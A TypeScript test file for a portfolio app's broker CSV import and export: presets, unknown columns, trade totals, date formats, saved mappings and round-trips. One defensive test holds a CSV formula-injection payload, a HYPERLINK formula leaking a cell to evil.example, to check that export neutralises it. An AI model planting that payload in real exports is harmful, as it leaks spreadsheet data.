// Broker export presets, read from sample files written from each broker's documented
// format (test/fixtures/imports/), and the rules that keep an import from losing or
// inventing a value: unknown columns, trade totals, delimiter and date detection,
// saved mappings, and the CSV export read back by the importer.
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { after, before, describe, it } from 'node:test';
import { createUser, type CreatedUser } from '../../helpers/auth.ts';
import { buildTestApp, type TestApp } from '../../helpers/build-test-app.ts';
import { createPortfolio } from '../../helpers/portfolios.ts';

type Json = Record<string, unknown>;
interface Tx {
  type: string;
  symbol: string | null;
  quantity: string | null;
  price: string | null;
  amount: string | null;
  fee: string;
  currency: string;
  fx_rate: string;
  executed_at: string;
  note: string | null;
}

const fixture = (name: string) => readFileSync(new URL(`../../fixtures/imports/${name}.csv`, import.meta.url), 'utf8');

/** type symbol quantity price amount fee currency fx_rate executed_at — the exact stored values, `-` for null. */
const row = (tx: Tx) => [tx.type, tx.symbol, tx.quantity, tx.price, tx.amount, tx.fee, tx.currency, tx.fx_rate, tx.executed_at].map((v) => v ?? '-').join(' ');

describe('broker CSV imports', () => {
  let t: TestApp;
  let alice: CreatedUser;
  let bob: CreatedUser;

  before(async () => {
    t = await buildTestApp();
    [alice, bob] = await Promise.all([createUser(t), createUser(t)]);
  });
  after(() => t.close());

  const post = (user: CreatedUser, pid: string, csv: string, query = '') =>
    t.app.inject({ method: 'POST', url: `/v1/portfolios/${pid}/transactions/import?${query}`, headers: { ...user.headers, 'content-type': 'text/csv' }, payload: csv });
  async function transactions(user: CreatedUser, pid: string): Promise<Tx[]> {
    const res = await t.app.inject({ method: 'GET', url: `/v1/portfolios/${pid}/transactions?sort=executed_at&order=asc&limit=100`, headers: user.headers });
    assert.equal(res.statusCode, 200, res.body);
    return res.json<{ items: Tx[] }>().items;
  }
  /** Dry run (every row would_import), then the real import; returns the stored rows. */
  async function importPreset(preset: string, base: string, expectedRows: number): Promise<Tx[]> {
    const pid = await createPortfolio(t, alice, base);
    const dry = await post(alice, pid, fixture(preset), `dryRun=true&preset=${preset}`);
    assert.equal(dry.statusCode, 200, dry.body);
    const body = dry.json<{ valid: boolean; would_import: number; errors: unknown[]; statuses: Array<{ status: string }> }>();
    assert.deepEqual(body.errors, [], dry.body);
    assert.equal(body.would_import, expectedRows);
    const real = await post(alice, pid, fixture(preset), `preset=${preset}`);
    assert.equal(real.statusCode, 201, real.body);
    assert.equal(real.json<Json>().imported, expectedRows);
    return transactions(alice, pid);
  }

  it('a cell that cannot be read is one error, as read (not also "is required"); the other rows would import', async () => {
    const pid = await createPortfolio(t, alice, 'USD');
    const res = await post(alice, pid, 'date,type,symbol,quantity,price\n2026-02-02,buy,AAPL,1,151\n2026-02-03,buy,MSFT,abc,300\n', 'dryRun=true');
    assert.equal(res.statusCode, 200, res.body);
    const body = res.json<{ errors: Array<{ row: number; field: string; reason: string }>; would_import: number }>();
    assert.deepEqual(body.errors.map((e) => [e.row, e.field]), [[3, 'quantity']], res.body);
    assert.match(body.errors[0]?.reason ?? '', /"abc" is not a number/);
    assert.equal(body.would_import, 1);
  });

  it('Ghostfolio: dd-MM-yyyy, dd/MM/yyyy and yyyyMMdd dates in one file, a dividend written as quantity × price, a fee in the Fee column', async () => {
    const txs = await importPreset('ghostfolio', 'USD', 4);
    assert.deepEqual(txs.map(row), [
      'fee - - - 49 0 USD 1 2021-09-01T00:00:00.000Z',
      'buy MSFT 5 298.58 - 19 USD 1 2021-09-16T00:00:00.000Z',
      'dividend MSFT - - 3.1 0 USD 1 2021-11-17T00:00:00.000Z',
      'buy MSFT 1 320 - 0 USD 1 2021-12-20T00:00:00.000Z',
    ]);
    assert.equal(txs[0]?.note, 'Account Opening Fee');
    assert.equal(txs[1]?.note, 'My first order 🤓');
  });

  it('Wealthfolio: type, unit_price, instrumentType and subtype columns; a dividend as quantity × unit price; TAX as a fee', async () => {
    const txs = await importPreset('wealthfolio', 'USD', 7);
    assert.deepEqual(txs.map(row), [
      'deposit - - - 5000 0 USD 1 2024-01-02T00:00:00.000Z',
      'buy AAPL 10 185.5 - 4.95 USD 1 2024-01-15T00:00:00.000Z',
      'dividend AAPL - - 2.4 0 USD 1 2024-02-01T00:00:00.000Z',
      'sell AAPL 5 192 - 4.95 USD 1 2024-02-15T00:00:00.000Z',
      'interest - - - 12.5 0 USD 1 2024-04-01T00:00:00.000Z',
      'fee - - - 25 0 USD 1 2024-04-15T00:00:00.000Z',
      'fee - - - 1.5 0 USD 1 2024-06-01T00:00:00.000Z',
    ]);
  });

  it('Schwab: a title line, US dates ("as of"), $1,726.20 and -$1.50, "Fees & Comm" stored as the fee, totals checked, the total line skipped', async () => {
    const txs = await importPreset('schwab', 'USD', 6);
    assert.deepEqual(txs.map(row), [
      'fee - - - 1.5 0 USD 1 2024-02-29T00:00:00.000Z',
      'deposit - - - 5000 0 USD 1 2024-03-01T00:00:00.000Z',
      'dividend VTI - - 45.67 0 USD 1 2024-03-15T00:00:00.000Z',
      'buy AAPL 10 172.62 - 0 USD 1 2024-03-15T00:00:00.000Z',
      'sell AAPL 2 175 - 0.02 USD 1 2024-03-18T00:00:00.000Z',
      'interest - - - 0.09 0 USD 1 2024-03-19T00:00:00.000Z',
    ]);
  });

  it('Fidelity: blank lines and disclaimers around the rows, cells with a leading space, commission and fee columns, negative sell quantities', async () => {
    const txs = await importPreset('fidelity', 'USD', 4);
    assert.deepEqual(txs.map(row), [
      'deposit - - - 5000 0 USD 1 2024-03-01T00:00:00.000Z',
      'dividend SPAXX - - 3.21 0 USD 1 2024-03-10T00:00:00.000Z',
      'buy AAPL 10 172.62 - 0 USD 1 2024-03-15T00:00:00.000Z',
      'sell AAPL 4 176.5 - 0.04 USD 1 2024-03-20T00:00:00.000Z',
    ]);
  });

  it('Vanguard: the holdings table above the transactions is not the header, a trailing unnamed column, negative sell shares, net amounts within a cent', async () => {
    const txs = await importPreset('vanguard', 'USD', 4);
    assert.deepEqual(txs.map(row), [
      'deposit - - - 10000 0 USD 1 2024-03-01T00:00:00.000Z',
      'buy VTI 10 250.1234 - 0 USD 1 2024-03-15T00:00:00.000Z',
      'dividend VTI - - 9.12 0 USD 1 2024-03-27T00:00:00.000Z',
      'sell VTI 4 260 - 0.03 USD 1 2024-03-28T00:00:00.000Z',
    ]);
    // A sweep moves cash inside the account: a row error, never a deposit.
    const pid = await createPortfolio(t, alice, 'USD');
    const sweep = `${fixture('vanguard')}12345678,2024-03-29,2024-03-29,Sweep in,Sweep in,VANGUARD FEDERAL MONEY MARKET FUND,VMFXX,0.00000,1.0,50.00,0,50.00,0.0,CASH,\n`;
    const dry = await post(alice, pid, sweep, 'dryRun=true&preset=vanguard');
    const result = dry.json<{ would_import: number; errors: Array<{ row: number; field: string; reason: string }> }>();
    assert.deepEqual(result.errors[0], { row: 11, field: 'type', reason: '"Sweep in" is not an action the vanguard preset imports' });
    assert.ok(result.errors.every((e) => e.row === 11));
    assert.equal(result.would_import, 4);
  });

  it('Interactive Brokers Flex: yyyyMMdd dates, negative commissions and sell quantities, TradeMoney and ISIN ignored, FXRateToBase', async () => {
    const txs = await importPreset('ibkr_flex', 'USD', 3);
    assert.deepEqual(txs.map(row), [
      'buy AAPL 10 172.62 - 1 USD 1 2024-03-15T00:00:00.000Z',
      'buy SAP 5 180.5 - 3 EUR 1.0876 2024-03-18T00:00:00.000Z',
      'sell AAPL 4 176.5 - 1.0012 USD 1 2024-03-20T00:00:00.000Z',
    ]);
  });

  it('Trading 212: date-times with milliseconds, a USD trade in a EUR account (rate inverted at 10 places, the EUR fee converted exactly), a dividend\'s net total in EUR with "Not available" as its rate', async () => {
    const txs = await importPreset('trading212', 'EUR', 4);
    assert.deepEqual(txs.map(row), [
      'deposit - - - 1000 0 EUR 1 2024-03-01T09:00:00.123Z',
      'buy SAP 2 180.5 - 0 EUR 1 2024-03-15T14:30:01.000Z',
      'buy AAPL 1.5 172.62 - 0.390816 USD 0.9211495947 2024-03-15T15:00:00.500Z',
      'dividend AAPL - - 0.28 0 EUR 1 2024-03-28T12:05:25.000Z',
    ]);
  });

  it('Degiro: unnamed currency columns, ISIN as symbol, the sign of the quantity as the side, EUR fees and totals checked at the file\'s rate; the newer header with AutoFX Fee and Total EUR', async () => {
    const txs = await importPreset('degiro', 'EUR', 3);
    assert.deepEqual(txs.map(row), [
      'buy US0378331005 10 172.62 - 2.1712 USD 0.9211495947 2024-03-15T15:31:00.000Z',
      'buy DE0007164600 5 180.5 - 2 EUR 1 2024-03-18T09:05:00.000Z',
      'sell US0378331005 4 176.5 - 2.171 USD 0.9212344542 2024-03-20T14:02:00.000Z',
    ]);
    const pid = await createPortfolio(t, alice, 'EUR');
    const newer = [
      'Date,Time,Product,ISIN,Reference exchange,Venue,Quantity,Price,,Local value,,Value EUR,Exchange rate,AutoFX Fee,Transaction and/or third party fees EUR,Total EUR,Order ID,',
      '15-03-2024,15:31,APPLE INC,US0378331005,NDQ,XNAS,10,172.62,USD,-1726.20,USD,-1590.09,1.0856,-3.98,-2.00,-1596.07,c3d4e5f6,',
    ].join('\n');
    const res = await post(alice, pid, newer, 'preset=degiro');
    assert.equal(res.statusCode, 201, res.body);
    assert.deepEqual((await transactions(alice, pid)).map(row), ['buy US0378331005 10 172.62 - 6.491888 USD 0.9211495947 2024-03-15T15:31:00.000Z']);
  });

  it('FAIL-007: an unknown column is an error (a fee is never dropped): "Fees & Comm" without the preset fails until it is mapped or ignored', async () => {
    const pid = await createPortfolio(t, alice);
    const csv = 'Date,Action,Symbol,Quantity,Price,Fees & Comm\n2024-03-15,buy,AAPL,10,172.62,4.95\n';
    const dry = await post(alice, pid, csv, 'dryRun=true');
    assert.equal(dry.statusCode, 200, dry.body);
    const body = dry.json<{ valid: boolean; would_import: number; errors: Array<{ row: number; field: string; reason: string }> }>();
    assert.equal(body.valid, false);
    assert.deepEqual(body.errors.map((e) => [e.row, e.field]), [[1, 'Fees & Comm']]);
    assert.match(body.errors[0]?.reason ?? '', /unknown column/);
    const real = await post(alice, pid, csv);
    assert.equal(real.statusCode, 422, real.body);
    assert.equal((await transactions(alice, pid)).length, 0);

    const mapped = await post(alice, pid, csv, `map=${encodeURIComponent('Fees & Comm=fee')}`);
    assert.equal(mapped.statusCode, 201, mapped.body);
    assert.equal((await transactions(alice, pid))[0]?.fee, '4.95');

    const pid2 = await createPortfolio(t, alice);
    const ignored = await post(alice, pid2, csv, `ignore=${encodeURIComponent('Fees & Comm')}`);
    assert.equal(ignored.statusCode, 201, ignored.body);
    assert.equal((await transactions(alice, pid2))[0]?.fee, '0');
  });

  it('a total on a trade differing from quantity × price ± fee by more than a cent is a row error; within a cent it is accepted', async () => {
    const pid = await createPortfolio(t, alice);
    const csv = [
      'date,type,symbol,quantity,price,fee,total',
      '2024-03-15,buy,AAPL,10,172.62,1,"$1,727.21"',
      '2024-03-16,buy,AAPL,10,172.62,1,"$1,727.22"',
      '2024-03-17,sell,AAPL,1,100,1,99.50',
    ].join('\n');
    const dry = await post(alice, pid, csv, 'dryRun=true');
    const body = dry.json<{ would_import: number; errors: Array<{ row: number; field: string; reason: string }>; statuses: Array<{ row: number; status: string }> }>();
    assert.deepEqual(body.errors.map((e) => [e.row, e.field]), [[3, 'amount'], [4, 'amount']]);
    assert.match(body.errors[0]?.reason ?? '', /1727\.22 differs from quantity × price \+ fee = 1727\.2/);
    assert.deepEqual(body.statuses.map((s) => [s.row, s.status]), [[2, 'would_import'], [3, 'invalid'], [4, 'invalid']]);
    assert.equal(body.would_import, 1);
  });

  it('detects ; and tab delimiters and the date format; an ambiguous date format is a 400 until date_format is sent; a wrong delimiter is a clear 400', async () => {
    const pid = await createPortfolio(t, alice);
    const semicolon = 'Datum;Type;Symbol;Quantity;Price;Fee\n15.03.2024;buy;SAP;2;"1.234,56";"0,99"\n';
    const a = await post(alice, pid, semicolon, `dryRun=true&decimal=comma&map=${encodeURIComponent('Datum=executed_at')}`);
    assert.equal(a.statusCode, 200, a.body);
    assert.deepEqual(a.json<Json>().errors, []);
    const tab = 'date\ttype\tamount\n15-03-2024\tdeposit\t100\n';
    const b = await post(alice, pid, tab, 'dryRun=true');
    assert.deepEqual(b.json<Json>().errors, [], b.body);

    const ambiguous = 'date,type,amount\n03/04/2024,deposit,100\n05/06/2024,deposit,100\n';
    const c = await post(alice, pid, ambiguous, 'dryRun=true');
    assert.equal(c.statusCode, 400, c.body);
    assert.equal(c.json<Json>().code, 'ambiguous_date_format');
    assert.match(String(c.json<Json>().detail), /MM\/dd\/yyyy, dd\/MM\/yyyy.*date_format/);
    const d = await post(alice, pid, ambiguous, 'dryRun=true&date_format=dd/MM/yyyy');
    assert.equal(d.statusCode, 200, d.body);
    assert.equal(d.json<{ statuses: Array<{ status: string }> }>().statuses.length, 2);
    await post(alice, pid, ambiguous, 'date_format=dd/MM/yyyy');
    assert.equal((await transactions(alice, pid))[0]?.executed_at, '2024-04-03T00:00:00.000Z');

    const wrong = await post(alice, pid, 'date;type;amount\n2024-01-02;deposit;"1,5"\n', 'dryRun=true&delimiter=comma');
    assert.equal(wrong.statusCode, 400, wrong.body);
    assert.equal(wrong.json<Json>().code, 'invalid_csv');
    assert.match(String(wrong.json<Json>().detail), /send delimiter=semicolon/);
    const broken = await post(alice, pid, 'date,type,amount\n2024-01-02,deposit,"5\n', 'dryRun=true');
    assert.equal(broken.statusCode, 400);
    assert.doesNotMatch(String(broken.json<Json>().detail), /CSV_|Quote Not Closed|Invalid Closing Quote/i);
  });

  it('a saved mapping is reused by name and by id, is per user (404 for another user), and can be replaced and deleted', async () => {
    const create = await t.app.inject({
      method: 'POST',
      url: '/v1/import/mappings',
      headers: alice.headers,
      payload: { name: 'my bank', delimiter: 'semicolon', decimal: 'comma', date_format: 'dd.MM.yyyy', columns: { Buchungstag: 'executed_at', Betrag: 'amount', Art: 'type' }, ignore: ['Verwendungszweck'] },
    });
    assert.equal(create.statusCode, 201, create.body);
    const mapping = create.json<{ id: string }>();
    const csv = 'Buchungstag;Art;Betrag;Verwendungszweck\n01.03.2024;deposit;"1.000,50";Gehalt\n';
    const pid = await createPortfolio(t, alice);
    const byName = await post(alice, pid, csv, `dryRun=true&mapping=${encodeURIComponent('my bank')}`);
    assert.equal(byName.statusCode, 200, byName.body);
    assert.deepEqual(byName.json<Json>().errors, []);
    const byId = await post(alice, pid, csv, `mapping=${mapping.id}`);
    assert.equal(byId.statusCode, 201, byId.body);
    assert.equal((await transactions(alice, pid))[0]?.amount, '1000.5');

    const bobPid = await createPortfolio(t, bob);
    assert.equal((await post(bob, bobPid, csv, `dryRun=true&mapping=${mapping.id}`)).statusCode, 404);
    assert.equal((await t.app.inject({ method: 'GET', url: `/v1/import/mappings/${mapping.id}`, headers: bob.headers })).statusCode, 404);
    const dup = await t.app.inject({ method: 'POST', url: '/v1/import/mappings', headers: alice.headers, payload: { name: 'my bank' } });
    assert.equal(dup.statusCode, 409);
    const bad = await t.app.inject({ method: 'POST', url: '/v1/import/mappings', headers: alice.headers, payload: { name: 'x', columns: { A: 'nonsense' } } });
    assert.equal(bad.statusCode, 400);

    const put = await t.app.inject({ method: 'PUT', url: `/v1/import/mappings/${mapping.id}`, headers: alice.headers, payload: { name: 'renamed' } });
    assert.equal(put.statusCode, 200, put.body);
    const list = await t.app.inject({ method: 'GET', url: '/v1/import/mappings', headers: alice.headers });
    assert.deepEqual(list.json<{ items: Array<{ name: string }> }>().items.map((m) => m.name), ['renamed']);
    assert.equal((await t.app.inject({ method: 'DELETE', url: `/v1/import/mappings/${mapping.id}`, headers: alice.headers })).statusCode, 204);
    assert.equal((await post(alice, pid, csv, `dryRun=true&mapping=${mapping.id}`)).statusCode, 404);
  });

  it('the CSV export reads back through the importer into the same transactions; GET /v1/export carries the watchlist and POST /v1/import restores it', async () => {
    const pid = await createPortfolio(t, alice, 'EUR');
    const source = [
      'date,type,symbol,quantity,price,fee,currency,fx_rate,amount,ratio,note',
      '2024-01-01,deposit,,,,,,,5000.10,,"salary, ""January"""',
      '2024-01-02,buy,AAPL,3,100.123456789,1.5,USD,0.9,,,',
      '2024-01-03,split,AAPL,,,,USD,0.9,,3:1,',
      '2024-01-04,sell,AAPL,1.5,50,0.25,USD,0.91,,,',
      '2024-01-05,dividend,AAPL,,,,USD,0.92,0.33,,',
    ].join('\n');
    assert.equal((await post(alice, pid, source)).statusCode, 201);
    const exported = await t.app.inject({ method: 'GET', url: `/v1/portfolios/${pid}/transactions/export`, headers: alice.headers });
    assert.equal(exported.statusCode, 200, exported.body);
    assert.match(String(exported.headers['content-type']), /^text\/csv/);
    const copy = await createPortfolio(t, alice, 'EUR');
    const back = await post(alice, copy, exported.body);
    assert.equal(back.statusCode, 201, back.body);
    const strip = (txs: Tx[]) => txs.map((tx) => ({ ...tx, id: undefined, portfolio_id: undefined, created_at: undefined, updated_at: undefined }));
    assert.deepEqual(strip(await transactions(alice, copy)), strip(await transactions(alice, pid)));
    assert.equal((await post(alice, copy, exported.body)).json<Json>().duplicates, 5);
    const otherUser = await t.app.inject({ method: 'GET', url: `/v1/portfolios/${pid}/transactions/export`, headers: bob.headers });
    assert.equal(otherUser.statusCode, 404);

    for (const symbol of ['AAPL', 'MSFT']) {
      const res = await t.app.inject({ method: 'PUT', url: `/v1/me/watchlist/${symbol}`, headers: alice.headers });
      assert.ok(res.statusCode === 200 || res.statusCode === 201, res.body);
    }
    const doc = await t.app.inject({ method: 'GET', url: '/v1/export', headers: alice.headers });
    const watchlist = doc.json<{ watchlist: Array<{ symbol: string }> }>().watchlist;
    assert.deepEqual(watchlist.map((w) => w.symbol).sort(), ['AAPL', 'MSFT']);
    const carol = await createUser(t);
    const imported = await t.app.inject({ method: 'POST', url: '/v1/import', headers: carol.headers, payload: doc.json() });
    assert.equal(imported.statusCode, 201, imported.body);
    const carolList = await t.app.inject({ method: 'GET', url: '/v1/me/watchlist', headers: carol.headers });
    assert.deepEqual(carolList.json<{ items: Array<{ symbol: string }> }>().items.map((w) => w.symbol).sort(), ['AAPL', 'MSFT']);
  });

  it('FAIL-007: notes "=HYPERLINK(…)", "-5 shares", "@SUM(A1)" and "+1 bonus" are exported neutralised with a leading quote and re-imported unchanged', async () => {
    const pid = await createPortfolio(t, alice, 'USD');
    const notes = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', '-5 shares', '@SUM(A1:A9)', '+1 bonus', "'=already quoted", "it's fine"];
    for (const [i, note] of notes.entries()) {
      const res = await t.app.inject({
        method: 'POST',
        url: `/v1/portfolios/${pid}/transactions`,
        headers: alice.headers,
        payload: { type: 'deposit', amount: `${i + 1}.00`, currency: 'USD', executed_at: `2024-01-0${i + 1}`, note },
      });
      assert.equal(res.statusCode, 201, res.body);
    }
    const exported = await t.app.inject({ method: 'GET', url: `/v1/portfolios/${pid}/transactions/export`, headers: alice.headers });
    assert.equal(exported.statusCode, 200, exported.body);
    const body = exported.body;
    assert.ok(body.includes(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")"`), body);
    assert.ok(body.includes(",'-5 shares"), body);
    assert.ok(body.includes(",'@SUM(A1:A9)"), body);
    assert.ok(body.includes(",'+1 bonus"), body);
    assert.ok(body.includes(",''=already quoted"), body);
    assert.ok(body.includes(",it's fine"), body);
    // No cell of the file starts with a formula character (quoted or not).
    for (const line of body.trim().split('\n').slice(1)) assert.doesNotMatch(line, /(^|,)"?[-=+@][^0-9]/, line);

    const copy = await createPortfolio(t, alice, 'USD');
    const back = await post(alice, copy, body);
    assert.equal(back.statusCode, 201, back.body);
    assert.deepEqual((await transactions(alice, copy)).map((tx) => tx.note), notes);
  });
});
